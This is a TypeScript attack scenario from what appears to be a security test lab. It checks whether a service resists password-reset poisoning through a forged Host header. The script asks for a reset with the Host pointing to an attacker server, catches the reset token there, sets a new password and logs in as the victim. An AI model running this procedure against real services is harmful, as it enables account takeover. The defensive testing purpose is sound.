import { get } from 'node:http'
import type { Attack } from '../lab/attack.js'

export default {
  title: 'Have the link of a password reset lead elsewhere',
  risk: 'API2',
  cwe: 644,
  concern: 'transport',
  story: 'Mallory asks for a new password for the victim, and names her own server as the host of the request. The mail is genuine; its link leads to her.',
  defence: 'The service answers for the hosts that are listed; links are made of its own origin, not of what a request says.',
  refusal: { status: 421, code: 'FST_BASTION_TRANSPORT_HOST_UNTRUSTED' },
  async run ({ step, ask, person, lair, stolen }) {
    const { username } = await person()
    const { url, hits } = await lair()
    step('A new password is asked for, at the host of Mallory')
    const decisive = await ask('POST', '/auth/forgot', { headers: { host: new URL(url).host }, json: { email: `${username}@people.example` }, machine: 1 })
    step('The victim opens the link in the mail')
    const [[, link] = []] = await stolen(new RegExp(`To: ${username}@people.example[^]*?(${url}/\\S+)`))
    if (link !== undefined) await new Promise((resolve, reject) => { get(link, response => { response.resume().on('end', resolve) }).on('error', reject) })
    const token = new URL(hits[0]?.url ?? '/', url).searchParams.get('token')
    if (token === null) return { succeeded: false, decisive, evidence: 'Nobody comes to her server' }
    step('Mallory takes the token, and the account')
    const newPassword = 'Mallory-was-here-1'
    await ask('POST', '/auth/reset', { json: { token, newPassword }, machine: 1 })
    const { status } = await ask('POST', '/auth/login', { json: { username, password: newPassword }, machine: 1 })
    return { succeeded: status === 200, decisive, evidence: 'The victim brings her the token: the account is hers' }
  },
} satisfies Attack
